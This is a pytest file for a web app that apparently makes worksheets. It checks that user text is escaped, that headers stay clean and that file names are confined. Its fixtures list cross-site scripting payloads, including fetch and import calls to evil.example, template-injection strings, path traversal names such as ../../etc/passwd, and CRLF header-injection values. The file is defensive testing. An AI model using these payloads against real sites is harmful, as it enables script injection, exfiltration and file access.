"""Hostile names and texts on the page: words that can be seen, and nothing more."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from unicodedata import normalize
from urllib.parse import unquote, urlencode

import pytest

from tests.web.asking import Page

_ELEMENTS = """
html head meta title link script noscript body a header nav ul li form button div main h1 h2 fieldset legend label input
span p abbr output table caption thead tbody tr th td select option details summary aside figure figcaption small footer
svg g text tspan path rect image
"""
ALLOWED = set(_ELEMENTS.split())
SCRIPTS = {"/static/page.js", "/static/new.js"}
COMMANDS = ("alert(1)", "alert`1`", "document.title='x'", "import('//evil.example/x')", "fetch('//evil.example')")
MARKUP = r"""
<script>{}</script>
<img src=x onerror={}>
<svg onload={}>
<svg><script>{}</script></svg>
<svg/onload={}//
</script><script>{}</script>
'"><script>{}</script>
"><img src=x onerror="{}
' onfocus='{}' autofocus='
" onmouseover="{}" x="
<a href="javascript:{}">x</a>
javascript:{}
<iframe srcdoc='<script>{}</script>'>
<math><mi xlink:href="javascript:{}">
<details open ontoggle={}>
<style>@import 'javascript:{}'</style>
<!--><script>{}</script>
]]><script>{}</script>
<text><tspan onclick={}>
</text></svg><script>{}</script>
&lt;script&gt;{}&lt;/script&gt;
&#60;script&#62;{}
\u003cscript\u003e{}
%3Cscript%3E{}%3C/script%3E
<foreignObject onload={}>
<set attributeName=onload to={}>
<base href=//evil.example/{}>
<link rel=stylesheet href=//evil.example/{}>
<meta http-equiv=refresh content=0;{}>
<form action=//evil.example><button>{}
<input autofocus onfocus={}>
<textarea>{}</textarea>
<noscript><p title="</noscript><img src=x onerror={}>">
""".strip().splitlines()
TEMPLATES = r"""
{{ 7 * 7 }}
{% for x in range(9) %}x{% endfor %}
{{ config }}
{{ self.__init__.__globals__ }}
{# x #}
${7*7}
#{7*7}
<%= 7 * 7 %>
%(x)s
{0}
{x!r}
%s%n%d
$(id)
`id`
{{''.__class__.__mro__}}
""".strip().splitlines()
_CODES = (*range(1, 32), 0x7F, 0x80, 0x85, 0x9F, 0xAD, 0x200B, 0xFEFF, 0xFFFE, 0xFFFF)
CONTROLS = [f"a{chr(code)}b" for code in _CODES]
_TURNING = (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)
BIDI = [f"Ana {chr(code)}gpj.exe" for code in _TURNING]
SCRIPTED = [
    *("נועה", "ליאת בן־עמי", "محمد", "فاطمة الزهراء", "अनन्या", "สมชาย", "田中 太郎", "김민준", "Đặng Thị", "Ὀδυσσεύς"),
    *("e\u0301" * 40, "Z" + "\u0335\u0334\u0337" * 60, "👩\u200d👩\u200d👧\u200d👦", "🏳\ufe0f\u200d🌈 🇵🇹", "𝕬𝖓𝖆"),
    *(
        "\U000e0041\U000e0042",
        "ﷺ",
        "\ue000\uf8ff",
        "\U0010ffff",
        "ｆｕｌｌ",
        "ß" * 60,
        "İı",
        "\u2028x\u2029y",
        "ab\u0000c",
    ),
]
LONG = [
    *("x" * 200, "x" * 201, "x " * 100, "W" * 300, "<" * 150, "&" * 150, "-" * 200),
    *("\U0001f600" * 100, "a\u0301" * 100, "אב" * 100),
]
PATHS = r"""
../../etc/passwd
..\..\windows
/etc/passwd
C:\x
\\server\share
con
NUL.txt
aux
LPT1
.
..
~
-rf
--help
a/b
a\b
name.pdf
.htaccess
%2e%2e%2f
x;y
x:y
x*?
|x
COM¹
""".strip().splitlines()
HEADERS = [
    *("x\r\nSet-Cookie: a=b", "x\nLocation: //evil.example", "x\r\n\r\n<script>alert(1)</script>"),
    *('"; filename="evil.exe', "'; filename*=UTF-8''evil.exe", "x%0d%0aSet-Cookie:a", 'é"ü;=', r"x\"y"),
    *("=?utf-8?q?x?=", "x\u010d\u010ay"),
]
_OTHERS = [*TEMPLATES, *SCRIPTED, *LONG, *PATHS, *HEADERS]
TEXTS = [*(markup.format(command) for markup, command in product(MARKUP, COMMANDS)), *CONTROLS, *BIDI, *_OTHERS]
NAMES = [*(markup.format("alert(1)") for markup in MARKUP), *CONTROLS[:20], *BIDI[:4], *_OTHERS]
assert (len(TEXTS) >= 250, len(NAMES) >= 130) == (True, True)


class Seen(HTMLParser):
    """What a browser makes of an answer: its elements, and what stands in each input."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.values: dict[str, str] = {}
        self.texts: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        assert tag in ALLOWED, tag
        assert not [name for name in given if name.startswith("on") or name in {"style", "srcdoc", "xlink:href"}]
        for name in given.keys() & {"href", "src", "action", "formaction"}:
            assert re.match(r"[/#]|data:(,|image/png;base64,)", given[name] or ""), given[name]
        if tag == "script":
            assert given.get("src") in SCRIPTS
        if tag == "input" and "id" in given:
            self.values[given["id"] or ""] = given.get("value") or ""

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


@pytest.fixture
def page(tmp_path: Path) -> Page:
    return Page(tmp_path / "Alliances")


@pytest.mark.parametrize("place", TEXTS[::16], ids=lambda text: ascii(text)[:40])
def test_a_text_comes_back_as_it_was_typed(page: Page, place: str) -> None:
    whole = page.post("/new", [("name", place), ("place", place)])
    seen = Seen(whole.text)
    assert whole.status == 200
    assert (seen.values["name-0"], seen.values["place"]) == (place, place)
    for name, value in whole.headers.items():
        assert "\n" not in name + value


def test_no_text_is_more_than_words_in_the_pages(page: Page) -> None:
    shown = 0
    for start in range(0, len(TEXTS), 3):
        name, other, place = (*TEXTS[start : start + 3], "x", "y")[:3]
        answer = page.post("/preview", [("name", name), ("name", other), ("place", place), ("date", "2026-12-04")])
        assert answer.status in {200, 422}
        seen = Seen(answer.text)
        shown += answer.status == 200
        if answer.status == 422:
            assert "data-field=" in answer.text
            assert any(map(str.strip, seen.texts))
    assert shown > len(TEXTS) / 4


@pytest.mark.parametrize(
    "field", ["layout", "paper", "style", "lines", "language", "second", "language-0", "bank", "brand"]
)
def test_no_choice_is_more_than_words_in_what_is_told_of_it(page: Page, field: str) -> None:
    for text in TEXTS[::11]:
        answer = page.post("/preview", [(field, text)])
        assert answer.status == 422, text
        Seen(answer.text)
        Seen(page.post("/questions", [(field, text)]).text)


def test_questions_of_a_hostile_bank_are_words(page: Page) -> None:
    texts = [text.format("alert(1)") for text in MARKUP] + list(TEMPLATES)
    questions = "\n".join(f"      - {{id: q{n}, text: {quote(text)}}}" for n, text in enumerate(texts))
    bank = (
        f"title: {quote(MARKUP[0])}\nsections:\n  - id: s\n    title: {quote(MARKUP[1])}\n    questions:\n{questions}\n"
    )
    kept = page.post("/bank?name=x.yaml", bank.encode()).json
    assert isinstance(kept, dict)
    parts = page.post("/questions", [("bank", kept["id"])])
    seen = Seen(parts.text)
    assert {" ".join(text.split()) for text in texts} <= {" ".join(text.split()) for text in seen.texts}
    assert Seen(page.post("/preview", [("bank", kept["id"]), ("pick-0", "q3")]).text).texts


def test_questions_of_ones_own_are_words(page: Page) -> None:
    texts = [text.format("alert(1)") for text in MARKUP] + TEMPLATES + CONTROLS + BIDI + SCRIPTED
    for text in (*texts[::3], *LONG):  # all of them below
        answer = page.post("/new", [("name", "Ana"), ("add", text), ("add", text)])
        assert answer.status == 200
        seen = Seen(answer.text)
        if text.split():
            assert seen.values["add"] == text
            assert " ".join(normalize("NFC", text).split()) in {" ".join(shown.split()) for shown in seen.texts}
    form = [("name", "Ana"), ("layout", "onepage"), *(("add", text) for text in texts)]
    for path in ("/preview", "/questions", "/new"):
        assert Seen(page.post(path, form).text).texts


def quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def test_names_of_files_that_are_downloaded_are_safe_and_nothing_is_written_elsewhere(
    page: Page, tmp_path: Path
) -> None:
    made = 0
    for name in NAMES:
        answer = page.post("/worksheet", [("name", name), ("layout", "onepage")])
        assert answer.status in {200, 422}
        if answer.status == 422:
            Seen(answer.text)
            continue
        made += 1
        disposition = answer.headers["content-disposition"]
        assert re.fullmatch(r"attachment; filename\*=UTF-8''[\w.%~-]+\.pdf", disposition, re.ASCII), disposition
        file = unquote(disposition.partition("''")[2])
        assert file == Path(file).name
        assert not re.search(r'[\x00-\x1f\x7f<>:"/\\|?*\u202a-\u202e\u2066-\u2069]', file)
        assert (tmp_path / "Alliances" / file).read_bytes() == answer.body
    assert made > len(NAMES) * 0.8
    assert {path.suffix for path in tmp_path.rglob("*")} == {".pdf", ""}


@pytest.mark.parametrize("name", [*PATHS, *HEADERS, *CONTROLS[::4]], ids=lambda text: ascii(text)[:40])
def test_a_dropped_file_stays_in_the_folder_whatever_it_is_called(page: Page, tmp_path: Path, name: str) -> None:
    answer = page.post(f"/bank?{urlencode({'name': f'{name}.yaml'})}", b"extends: classic\n")
    if not name.strip("."):  # such a file is hidden
        assert answer.status == 422
        return
    kept = answer.json
    assert isinstance(kept, dict)
    assert set(tmp_path.rglob("*")) == {tmp_path / "Alliances", tmp_path / "Alliances" / kept["name"]}
    assert re.fullmatch(r"[\w.-]+\.yaml", kept["name"])
    assert not kept["name"].startswith(".")
